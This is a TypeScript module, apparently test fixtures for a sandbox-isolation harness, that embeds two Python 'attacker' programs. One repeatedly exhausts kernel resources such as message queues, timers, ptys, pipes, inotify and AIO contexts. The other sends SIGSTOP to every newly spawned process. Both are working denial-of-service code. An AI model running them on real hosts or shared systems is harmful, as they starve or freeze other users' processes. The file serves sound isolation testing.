/** The attacker's programs inside its sandbox. */

/** Repeatedly takes as much as possible of every kernel resource. */
export const exhaust = `
import ctypes, os, time, signal, resource
libc = ctypes.CDLL(None, use_errno=True)

def many(take, most=70000):
    got = []
    for _ in range(most):
        try:
            one = take()
        except OSError:
            break
        if isinstance(one, int) and one < 0:
            break
        got.append(one)
    return got

def aio():
    context = ctypes.c_ulong(0)
    return context.value if libc.syscall(206, 100000, ctypes.byref(context)) == 0 else -1

def queue():
    many.number = getattr(many, 'number', 0) + 1
    return libc.mq_open(b'/q%d' % many.number, os.O_CREAT | os.O_RDWR, 0o600, None)

def timer():
    created = ctypes.c_int(0)
    return libc.timer_create(0, None, ctypes.byref(created))

def pty():
    return os.open('/dev/ptmx', os.O_RDWR)

def pipes():
    ends = os.pipe()
    try:
        import fcntl
        fcntl.fcntl(ends[0], 1031, 1048576)
    except OSError:
        pass
    return ends[0]

def queued_signals():
    signal.pthread_sigmask(signal.SIG_BLOCK, {40})
    return libc.sigqueue(os.getpid(), 40, 0)

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
while True:
    for take in (libc.inotify_init, aio, queue, timer, pty, pipes, queued_signals, lambda: libc.epoll_create1(0), lambda: libc.eventfd(0, 0)):
        many(take, 20000)
        # Held for a moment, then given back so that the next resource can be taken.
        time.sleep(0.3)
        os.closerange(3, 100000)
`

/** Sends SIGSTOP to every new process of its user as early as possible. */
export const stopChildren = `
import os, signal, time
me = os.getpid()
newest = 0
while True:
    try:
        with open('/proc/loadavg') as file:
            last = int(file.read().split()[4])
    except (OSError, ValueError):
        last = newest
    for pid in range(max(newest - 2, 2), last + 4):
        if pid == me:
            continue
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    newest = last
    time.sleep(0)
`
